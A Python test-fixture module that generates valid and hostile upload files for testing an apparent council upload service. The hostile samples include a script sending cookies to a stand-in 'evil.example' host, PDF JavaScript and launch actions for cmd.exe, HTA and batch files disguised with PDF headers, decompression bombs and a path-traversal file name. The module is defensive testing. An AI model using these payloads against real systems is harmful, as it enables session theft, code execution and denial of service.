"""Files residents (or attackers) might send, made by code so nothing binary lives in the repository.

Every function returns a `Sample(name, data)`: the file name a phone or browser would send and
the bytes. Use them anywhere an upload is tested, e.g.

    sample = hostile.executable_renamed_jpg()
    client.post(url, {"files": SimpleUploadedFile(sample.name, sample.data)})

HOSTILE lists the ones that must be refused (or, for the polyglot and the bad name, made safe),
VALID the ones that must be accepted. The PDFs are hand-written with a correct cross-reference
table, so they are valid to pypdf and to browsers.
"""

import io
import struct
import zipfile
import zlib
from typing import NamedTuple

import pillow_heif
from PIL import Image, ImageDraw

pillow_heif.register_heif_opener()

# The EICAR anti-virus test string: harmless, and detected by every scanner on purpose.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
# Where the GPS position in the valid photos points (Hackney Town Hall).
GPS_LATITUDE = (51.0, 32.0, 42.0)
GPS_LONGITUDE = (0.0, 3.0, 20.0)
PLACE_TEXT = "Hackney Town Hall, Mare Street"


class Sample(NamedTuple):
    name: str
    data: bytes


# Building blocks ------------------------------------------------------------------------


def picture(width: int = 64, height: int = 32) -> Image.Image:
    """Left half red, right half blue: after a rotation you can tell which way it turned."""
    image = Image.new("RGB", (width, height), (220, 20, 20))
    ImageDraw.Draw(image).rectangle((width // 2, 0, width, height), fill=(20, 20, 220))
    return image


def exif_with_gps(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Phone 15"  # Model
    exif[0x0112] = orientation
    exif[0x8825] = {  # the GPS block
        1: "N",
        2: GPS_LATITUDE,
        3: "W",
        4: GPS_LONGITUDE,
    }
    return exif


def xmp_packet() -> bytes:
    return (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        b'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:City="'
        + PLACE_TEXT.encode()
        + b'"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )


def jpeg_bytes(image: Image.Image | None = None, **options) -> bytes:
    out = io.BytesIO()
    (image or picture()).save(out, format="JPEG", quality=90, **options)
    return out.getvalue()


def pdf_bytes(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from numbered objects (1, 2, ...), with a correct xref table and trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _pages(count: int, first_object: int = 3) -> list[bytes]:
    """A page tree (object 2) and `count` pages with one line of text each, plus a font."""
    font = first_object + 2 * count
    kids = b" ".join(b"%d 0 R" % (first_object + 2 * index) for index in range(count))
    objects = [b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
    for index in range(count):
        content = first_object + 2 * index + 1
        stream = b"BT /F1 18 Tf 72 720 Td (Page %d of a bank statement) Tj ET" % (index + 1)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (content, font)
        )
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return objects


# Valid files ------------------------------------------------------------------------------


def jpeg_with_gps_and_orientation() -> Sample:
    """A 64 x 32 photo with EXIF GPS, make and model, XMP and a comment, orientation 6 (shown
    turned 90 degrees clockwise, so 32 x 64 once orientation is applied)."""
    data = jpeg_bytes(
        picture(),
        exif=exif_with_gps(orientation=6).tobytes(),
        xmp=xmp_packet(),
        comment=b"Taken at " + PLACE_TEXT.encode(),
    )
    return Sample("IMG_0042.JPG", data)


def png_photo() -> Sample:
    """A PNG with transparency, EXIF GPS and a text chunk naming a place."""
    from PIL import PngImagePlugin

    image = picture().convert("RGBA")
    image.putpixel((0, 0), (0, 0, 0, 0))
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", PLACE_TEXT)
    out = io.BytesIO()
    image.save(out, format="PNG", pnginfo=info, exif=exif_with_gps().tobytes())
    return Sample("Screenshot 2025-03-01 at 09.15.png", out.getvalue())


def heic_photo() -> Sample:
    """An iPhone-style HEIC with EXIF GPS."""
    out = io.BytesIO()
    picture().save(out, format="HEIF", quality=80, exif=exif_with_gps().tobytes())
    return Sample("IMG_1234.HEIC", out.getvalue())


def webp_photo() -> Sample:
    out = io.BytesIO()
    picture().save(out, format="WEBP", quality=80, exif=exif_with_gps().tobytes())
    return Sample("payslip.webp", out.getvalue())


def plain_pdf(pages: int = 2) -> Sample:
    """A valid PDF with `pages` pages of text and nothing active."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    return Sample("bank-statement.pdf", pdf_bytes([catalog, *_pages(pages)]))


def bad_file_name() -> Sample:
    """A valid JPEG whose name climbs folders, hides a NUL, line breaks and a right-to-left
    override (U+202E makes "gpj.exe" display as "exe.jpg")."""
    return Sample("../../etc/\x00pay\r\nslip\u202egpj.exe\x07.jpg", jpeg_bytes())


# Hostile files ----------------------------------------------------------------------------


def executable_renamed_jpg() -> Sample:
    """A Windows program header (MZ ... PE) named like a photo."""
    data = bytearray(b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 64))
    data += b"PE\x00\x00" + b"\x00" * 200
    return Sample("bank.exe.jpg", bytes(data))


def elf_renamed_jpg() -> Sample:
    """A Linux program header named like a photo."""
    return Sample("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 120)


def html_named_pdf() -> Sample:
    """A web page with a script, named like a PDF."""
    data = (
        b"<!DOCTYPE html><html><head><title>Statement</title></head><body>"
        b"<script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>"
    )
    return Sample("statement.pdf", data)


def jpeg_zip_polyglot() -> Sample:
    """A valid JPEG with a ZIP archive (holding a web page) appended: both a photo and a ZIP."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("payload.html", "<script>alert('polyglot')</script>")
    return Sample("passport.jpg", jpeg_bytes() + archive.getvalue())


def _blank_png(width: int, height: int, *, bit_depth: int, colour_type: int, row_bytes: int):
    """A PNG of blank rows, compressed row by row so building it takes little memory."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + row_bytes)  # filter byte + the row's samples
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def png_bomb(side: int = 20_000) -> Sample:
    """A decompression bomb: a few tens of KB that would decode to side x side pixels."""
    data = _blank_png(side, side, bit_depth=1, colour_type=0, row_bytes=(side + 7) // 8)
    return Sample("bomb.png", data)


def png_16_bit(side: int = 5_200) -> Sample:
    """A 16-bit colour PNG with transparency (8 bytes a pixel): under the pixel limit (27
    megapixels), a few hundred KB, yet over 200 MB to decode."""
    data = _blank_png(side, side, bit_depth=16, colour_type=6, row_bytes=side * 8)
    return Sample("scan.png", data)


def truncated_jpeg() -> Sample:
    """The first half of a real photo, as when an upload is cut off."""
    full = jpeg_bytes(picture(400, 300))
    return Sample("cut-off.jpg", full[: len(full) // 2])


def zero_byte_file() -> Sample:
    return Sample("empty.jpg", b"")


def oversized_file(megabytes: int = 25) -> Sample:
    """A JPEG header followed by padding: too big whatever it holds."""
    return Sample("huge.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * (megabytes * 1024 * 1024 - 4))


def svg_with_script() -> Sample:
    data = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        b"<script>alert(document.domain)</script><rect width='100' height='100'/></svg>"
    )
    return Sample("id-card.svg", data)


def pdf_with_javascript() -> Sample:
    """A valid one-page PDF that runs JavaScript when opened (/OpenAction /JS)."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %d 0 R >>" % 6
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert('hello');) >>"
    return Sample("letter.pdf", pdf_bytes([catalog, *_pages(1), action]))


def pdf_with_launch_action() -> Sample:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %d 0 R >>" % 6
    action = b"<< /Type /Action /S /Launch /F (cmd.exe) >>"
    return Sample("award-letter.pdf", pdf_bytes([catalog, *_pages(1), action]))


def pdf_with_embedded_file() -> Sample:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>"
    names = b"<< /Names [(invoice.exe) 7 0 R] >>"
    spec = b"<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>"
    payload = b"MZ not really a program"
    stream = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (
        len(payload),
        payload,
    )
    return Sample("payslip.pdf", pdf_bytes([catalog, *_pages(1), names, spec, stream]))


def encrypted_pdf(password: str = "secret") -> Sample:  # noqa: S107 - a test file
    """A PDF that needs a password to open."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf(1).data)))
    writer.encrypt(user_password=password, owner_password=password + "-owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return Sample("locked.pdf", out.getvalue())


def malformed_pdf() -> Sample:
    """Starts like a PDF, then nothing a parser can use."""
    return Sample("broken.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 9 0 R\n%%EOF garbage")


def hta_with_pdf_header() -> Sample:
    """An HTML application that runs when double-clicked, starting with a PDF header so a check
    of the first bytes takes it for a PDF; named to look like one."""
    data = (
        b"%PDF-1.7\n<HTA:APPLICATION WINDOWSTATE=minimize>\n<html><body><script "
        b'language=VBScript>CreateObject("WScript.Shell").Run "calc.exe"</script>'
        b"</body></html>\n"
    )
    return Sample("Payslip.pdf.hta", data)


def batch_with_pdf_header() -> Sample:
    """A Windows batch file behind a PDF header (cmd skips the line it cannot run)."""
    return Sample("statement.pdf", b"%PDF-1.4\r\n@echo off\r\nstart calc.exe\r\n")


def escaped_names_in_a_broken_pdf() -> Sample:
    """A damaged PDF whose JavaScript and launch action are written with #xx escapes, so only a
    reader that decodes names sees them."""
    return Sample(
        "broken.pdf",
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> "
        b"/AA << /O << /S /#4caunch /F (cmd.exe) >> >>\n%%EOF garbage",
    )


def eicar() -> Sample:
    """The EICAR test string on its own, named like a photo (refused by type before any scan)."""
    return Sample("eicar.jpg", EICAR)


def eicar_in_pdf() -> Sample:
    """A valid PDF carrying the EICAR string, so it passes the type check and only the virus
    scan catches it. The test clamd's signature matches EICAR anywhere in a file; ClamAV's
    published signature only matches the bare string, so use `eicar()` against a real one."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(EICAR), EICAR)
    return Sample("council-tax.pdf", pdf_bytes([catalog, *_pages(1), stream]))


VALID = {
    "jpeg_with_gps_and_orientation": jpeg_with_gps_and_orientation,
    "png_photo": png_photo,
    "heic_photo": heic_photo,
    "webp_photo": webp_photo,
    "plain_pdf": plain_pdf,
    "bad_file_name": bad_file_name,
}

HOSTILE = {
    "executable_renamed_jpg": executable_renamed_jpg,
    "elf_renamed_jpg": elf_renamed_jpg,
    "html_named_pdf": html_named_pdf,
    "jpeg_zip_polyglot": jpeg_zip_polyglot,
    "png_bomb": png_bomb,
    "truncated_jpeg": truncated_jpeg,
    "zero_byte_file": zero_byte_file,
    "oversized_file": oversized_file,
    "svg_with_script": svg_with_script,
    "pdf_with_javascript": pdf_with_javascript,
    "pdf_with_launch_action": pdf_with_launch_action,
    "pdf_with_embedded_file": pdf_with_embedded_file,
    "encrypted_pdf": encrypted_pdf,
    "malformed_pdf": malformed_pdf,
    "eicar": eicar,
    "eicar_in_pdf": eicar_in_pdf,
}
